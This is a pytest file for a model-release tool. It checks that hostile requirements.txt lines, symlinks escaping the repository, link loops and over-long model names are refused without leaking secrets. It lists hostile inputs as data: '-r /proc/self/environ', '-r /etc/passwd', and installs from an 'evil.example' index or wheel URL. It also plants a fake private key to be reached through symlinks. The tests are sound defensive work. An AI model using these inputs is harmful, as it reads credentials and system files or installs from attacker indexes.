"""Hostile model repositories: requirements.txt lines that would make pip read files or other
indexes, symbolic links leaving the repository (or looping), names too long for a file name.
Refused by `validate` (a problem at file:line) and again by `build`'s own readers, without Docker.
pip runs for real where it runs at all."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import pytest

from support.models import PYTHON_MODEL, python_config, python_model_files
from triton_release import cache
from triton_release.errors import Refused
from triton_release.image import environments, layers, requirements
from triton_release.image.base import PythonInstall
from triton_release.models import repository
from triton_release.models.repository import Repository
from triton_release.models.validate import validate

SECRET = "hunter2-registry-password"
INSTALL = PythonInstall("3.11", "/usr/bin/python3.11", "libpython3.11.so.1.0", "", "/usr/lib/python3/dist-packages", "")


@pytest.fixture(autouse=True)
def own_cache(tmp_path, monkeypatch):
    monkeypatch.setattr(cache, "_root", tmp_path / "cache")


def messages(root: Path, **kw) -> list[str]:
    return [str(p) for p in validate(root, **kw).problems]


def refusal(excinfo) -> str:
    """Everything a refusal shows the user: its message and its detail lines."""
    return "\n".join([str(excinfo.value), *excinfo.value.details])


# -- 1. requirements.txt: requirements only, unless requirements_options is "allow" ------------

HOSTILE_LINES = [
    "-r /proc/self/environ",
    "-r /etc/passwd",
    "--requirement=/etc/passwd",
    "-c /etc/passwd",
    "-e .",
    "--index-url https://user:token@evil.example/simple",
    "-i https://evil.example/simple",
    "--extra-index-url https://evil.example/simple",
    "-f /tmp",
    "--find-links=/tmp",
    "--trusted-host evil.example",
    "--pre",
    "six==1.16.0 --hash=sha256:abc",
    "git+https://github.com/x/y.git",
    "https://evil.example/six.whl",
    "file:///etc/passwd",
    "./vendor/six",
    "../six",
    "/etc/passwd",
    "six-1.16.0-py2.py3-none-any.whl",
    "six @ https://evil.example/six.whl",
    "six==${REGISTRY_PASSWORD}",
    "six==1.16.0 \\",
]


def with_requirements(make_repo, text: str) -> Path:
    return make_repo({**python_model_files("m"), "m/requirements.txt": text})


@pytest.mark.parametrize("line", HOSTILE_LINES)
def test_an_option_path_or_url_is_refused_naming_file_line_and_setting(make_repo, line):
    root = with_requirements(make_repo, f"six==1.16.0\n{line}\nnumpy==1.26.4  # third line\n")
    with pytest.raises(Refused) as refused:
        requirements.read_pins("m", root / "m" / "requirements.txt")
    message = str(refused.value)
    assert "model_repository/m/requirements.txt:2: " in message and "requirements_options" in message
    assert "numpy" not in message and "third line" not in message and "token" not in message
    problem = validate(root).problems
    assert len(problem) == 1 and problem[0].line == 2 and "requirements_options" in problem[0].message


def test_resolve_refuses_before_pip_and_shows_no_file_or_environment(make_repo, monkeypatch):
    monkeypatch.setenv("REGISTRY_PASSWORD", SECRET)
    root = with_requirements(make_repo, "six==1.16.0\n-r /proc/self/environ\n")
    with pytest.raises(Refused) as refused:
        environments.resolve(Repository.load(root), INSTALL, "2.35")
    shown = refusal(refused)
    assert "m/requirements.txt:2" in shown and SECRET not in shown and "PATH=" not in shown


@pytest.mark.parametrize("line", ["-r /proc/self/environ", "-r /etc/passwd"])
def test_allowed_options_reach_pip_but_not_what_pip_read(make_repo, monkeypatch, line):
    """requirements_options: allow: pip reads the file as it is (and fails on what -r brings), and
    the refusal shows none of that file, nor the environment."""
    monkeypatch.setenv("REGISTRY_PASSWORD", SECRET)
    root = with_requirements(make_repo, f"{line}\n")
    with pytest.raises(Refused) as refused:
        environments.resolve(Repository.load(root), INSTALL, "2.35", options="allow")
    shown = refusal(refused)
    assert SECRET not in shown and "root:x:0" not in shown and "PATH=" not in shown and "/bin/" not in shown
    assert "pip download -r" in shown


def test_allow_keeps_the_requirements_and_leaves_options_to_pip(make_repo):
    root = with_requirements(make_repo, "--index-url https://pypi.org/simple\nsix==1.16.0\n-r other.txt\n")
    pins = requirements.read_pins("m", root / "m" / "requirements.txt", "allow")
    assert [(p.line, str(p.requirement)) for p in pins] == [(2, "six==1.16.0")]
    assert validate(root, requirements_options="allow").ok


def test_plain_requirements_are_accepted(make_repo):
    root = with_requirements(
        make_repo,
        "# pinned\nsix==1.16.0  # pure Python\nnumpy>=1.26,<2; python_version >= '3.9'\nrequests[socks]==2.32.3\n",
    )
    pins = requirements.read_pins("m", root / "m" / "requirements.txt")
    assert [p.line for p in pins] == [2, 3, 4] and validate(root).ok


def test_a_requirements_file_that_is_not_text_is_a_problem_not_a_crash(make_repo):
    root = with_requirements(make_repo, "")
    (root / "m" / "requirements.txt").write_bytes(b"six==1.16.0\n\xff\xfe\n")
    assert "not UTF-8 text" in messages(root)[0]
    with pytest.raises(Refused, match="not UTF-8 text"):
        requirements.read_pins("m", root / "m" / "requirements.txt")


# real pip output (pip 26), with lines of files pip was made to read
PIP_CONFLICT = """\
Looking in indexes: https://user:token@index.example/simple
Processing /opt/pypi/files/six-1.17.0-py2.py3-none-any.whl (from -r a.txt (line 1))
ERROR: Invalid requirement: 'root:x:0:0:root:/root:/bin/bash': Expected semicolon
    root:x:0:0:root:/root:/bin/bash
        ^ (from line 1 of /etc/passwd)
ERROR: Could not find a version that satisfies the requirement ghp_secret123 (from versions: none)
ERROR: No matching distribution found for ghp_secret123
ERROR: Cannot install six<1.16 and six>=1.16 because these package versions have conflicting dependencies.

The conflict is caused by:
    The user requested six>=1.16
    The user requested six<1.16
    The user requested ghp_secret123
    acme 1.0 depends on six==1.15

To fix this you could try to:
ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/en/latest/topics/dependency-resolution/
"""


def test_only_pips_reasons_naming_the_models_requirements_are_shown(make_repo):
    root = make_repo({**python_model_files("a"), "a/requirements.txt": "six>=1.16\nsix<1.16\n"})
    repo = Repository.load(root)
    pins = requirements.read_pins("a", repo["a"].path / "requirements.txt")
    kept = requirements.shown_lines(PIP_CONFLICT, pins)
    assert kept == [
        "ERROR: Cannot install six<1.16 and six>=1.16 because these package versions have conflicting dependencies.",
        "The conflict is caused by:",
        "The user requested six>=1.16",
        "The user requested six<1.16",
        "acme 1.0 depends on six==1.15",
        "ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/en/latest/topics/dependency-resolution/",
    ]
    error = requirements.pip_failure(PIP_CONFLICT, pins, INSTALL)
    assert "model a" in str(error) and "model_repository/a/requirements.txt:1), six<1.16 (" in str(error)
    assert str(error).startswith("The requirements of model a") and "requirements.txt:2)" in str(error)
    alone = requirements.pip_failure(PIP_CONFLICT, pins[:1], INSTALL)
    shown = "\n".join([str(alone), *alone.details])
    assert "ghp_secret123" not in shown and "root:x" not in shown and "token" not in shown


# -- 2. symbolic links leaving the model repository: refused at every level --------------------


@pytest.fixture
def outside(tmp_path):
    """A folder outside the model repository, holding a model and a private key."""
    folder = tmp_path / "elsewhere"
    (folder / "1").mkdir(parents=True)
    (folder / "config.pbtxt").write_text(python_config("stolen"))
    (folder / "1" / "model.py").write_text(PYTHON_MODEL)
    (folder / "1" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (folder / "secret.txt").write_text(f"{SECRET}\n")
    return folder


def leaving_links(root: Path, outside: Path) -> dict[str, Path]:
    """link inside the model repository -> where it points, one per level."""
    return {
        "stolen": outside,
        "m/2": outside / "1",
        "m/1/keys": outside / "1",
        "m/1/deep/er/id_rsa": outside / "1" / "id_rsa",
        "m/config.pbtxt": outside / "secret.txt",
        "m/golden/x.json": outside / "secret.txt",
        "m/requirements.txt": outside / "secret.txt",
    }


@pytest.mark.parametrize("link", list(leaving_links(Path(), Path())))
def test_a_link_leaving_the_repository_is_refused_by_validate_and_by_the_layer_writer(make_repo, outside, link):
    root = make_repo(python_model_files("m"))
    path = root / link
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(leaving_links(root, outside)[link])
    found = validate(root).problems
    assert [(p.path, "points outside the model repository" in p.message) for p in found] == [(path, True)], found
    assert SECRET not in str(found)
    if link.startswith("m/golden/"):
        return  # golden cases are not in the image: validate's refusal is the one
    repo = Repository.load(root)
    with pytest.raises(Refused) as refused:
        layers.plan_image(repo, "base")
    assert str(path) in str(refused.value) and "points outside the model repository" in str(refused.value)
    assert SECRET not in str(refused.value)


def test_build_refuses_a_requirements_file_linked_from_outside(make_repo, outside):
    root = make_repo(python_model_files("m"))
    (root / "m" / "requirements.txt").symlink_to(outside / "secret.txt")
    with pytest.raises(Refused) as refused:
        environments.resolve(Repository.load(root), INSTALL, "2.35")
    assert "requirements.txt" in str(refused.value) and SECRET not in refusal(refused)


def test_a_model_folder_linked_from_outside_is_not_read(make_repo, outside):
    root = make_repo(python_model_files("m"))
    (root / "stolen").symlink_to(outside)
    model = Repository.load(root)["stolen"]
    assert model.config is None and model.versions == ()
    assert "the model folder is itself a link" in messages(root)[0]


# -- 3. links inside the repository: followed, in a deterministic layer -----------------------


def tar_files(plan_paths, model) -> tuple[dict[str, bytes | None], str]:
    out = io.BytesIO()
    digest = layers.write_layer_tar(out, layers.model_entries(model, plan_paths))
    out.seek(0)
    with tarfile.open(fileobj=out) as tar:
        return {m.name: tar.extractfile(m).read() if m.isfile() else None for m in tar.getmembers()}, digest


def test_a_link_inside_the_repository_is_followed_into_the_layer(make_repo):
    root = make_repo({**python_model_files("a"), **python_model_files("b"), "b/1/data/w.bin": b"\x01\x02"})
    os.symlink("../../b", root / "a" / "1" / "bdir")
    os.symlink("../../b/1/data/w.bin", root / "a" / "1" / "weights.bin")
    assert validate(root).ok
    model = Repository.load(root)["a"]
    name, version, paths = layers.plan_layers(model)[1]
    files, digest = tar_files(paths, model)
    assert (name, version) == ("a.v1.tar", 1)
    assert files["models/a/1/bdir/1/model.py"] == PYTHON_MODEL.encode()
    assert files["models/a/1/bdir/1/data/w.bin"] == files["models/a/1/weights.bin"] == b"\x01\x02"
    assert files["models/a/1/bdir/config.pbtxt"] == python_config("b").encode()
    assert "models/a/1/bdir/golden/basic.json" not in files  # golden cases stay out, as in any layer
    os.utime(root / "b" / "1" / "model.py", (1, 1))
    assert tar_files(layers.plan_layers(model)[1][2], model)[1] == digest


@pytest.mark.parametrize("target", ["..", ".", "../..", "../../a"])
def test_a_link_loop_is_refused(make_repo, target):
    root = make_repo({**python_model_files("a")})
    os.symlink(target, root / "a" / "1" / "loop")
    found = messages(root)
    assert len(found) == 1 and "a loop" in found[0] and "a/1/loop" in found[0], found
    with pytest.raises(Refused, match="a loop"):
        layers.plan_layers(Repository.load(root)["a"])


def test_links_between_models_that_multiply_are_bounded(make_repo, monkeypatch):
    """Each folder linking the next twice: 2**n paths. The walk stops at a bound, with a message."""
    monkeypatch.setattr(repository, "MAX_LINKED_ENTRIES", 500)
    files = python_model_files("a")
    for level in range(12):
        files[f"x{level}/f.txt"] = "x"
    root = make_repo(files)
    for level in range(11):
        os.symlink(f"../x{level + 1}", root / f"x{level}" / "l1")
        os.symlink(f"../x{level + 1}", root / f"x{level}" / "l2")
    os.symlink("../../x0", root / "a" / "1" / "x")
    assert any("lead to more than 500 files" in m for m in messages(root))
    with pytest.raises(Refused, match="lead to more than 500 files"):
        layers.plan_layers(Repository.load(root)["a"])


def test_a_dangling_link_and_a_fifo_are_refused(make_repo):
    root = make_repo(python_model_files("a"))
    os.symlink("nothing-here", root / "a" / "1" / "gone.bin")
    os.mkfifo(root / "a" / "1" / "pipe")
    found = messages(root)
    assert any("points to nothing" in m for m in found) and any("neither a file nor a folder" in m for m in found)
    with pytest.raises(Refused):
        layers.plan_layers(Repository.load(root)["a"])


@pytest.mark.parametrize("target", ["loop", "config.pbtxt/inside"])
def test_a_link_in_a_model_folder_that_loops_or_goes_through_a_file_is_a_problem_not_a_crash(make_repo, target):
    root = make_repo(python_model_files("a"))
    os.symlink(target, root / "a" / "loop")
    assert any("a/loop: symbolic link points to nothing" in m for m in messages(root))


# -- 4. model names short enough for file names ----------------------------------------------


def test_a_model_name_too_long_for_a_file_name_is_refused(make_repo):
    name = "m" * 250
    root = make_repo({**python_model_files(name), f"{name}/config.pbtxt": python_config(name)})
    found = messages(root)
    assert len(found) == 1 and "is 250 characters long: at most 128" in found[0] and "rename the folder" in found[0]
    with pytest.raises(Refused, match="at most 128"):
        layers.plan_layers(Repository.load(root)[name])


def test_a_model_name_of_128_characters_is_accepted(make_repo):
    name = "m" * 128
    assert validate(make_repo({**python_model_files(name), f"{name}/config.pbtxt": python_config(name)})).ok


def _pathlib_below(path: str, root: str) -> list[str] | None:
    try:
        parts = list(Path(path).relative_to(Path(root)).parts)
    except ValueError:
        return None
    return None if ".." in parts else parts


@pytest.mark.parametrize(
    ("path", "root", "expected"),
    [
        ("a/b", "a", ["b"]),
        ("a/./b//c/", "a", ["b", "c"]),
        ("./a/b", "a/", ["b"]),
        ("a", "a", []),
        ("/r/m/1", "/r", ["m", "1"]),
        ("//r/m", "//r", ["m"]),
        ("//r/m", "/r", None),
        ("/r/m", ".", None),
        ("r/m", ".", ["r", "m"]),
        ("ab", "a", None),
        ("a/../b", "a", None),
        ("b", "a", None),
    ],
)
def test_a_path_is_below_the_repository_as_pathlib_reads_it(path, root, expected):
    """The links check reads paths as strings (a thousand models' files), as pathlib would."""
    assert repository._below(path, root) == _pathlib_below(path, root) == expected
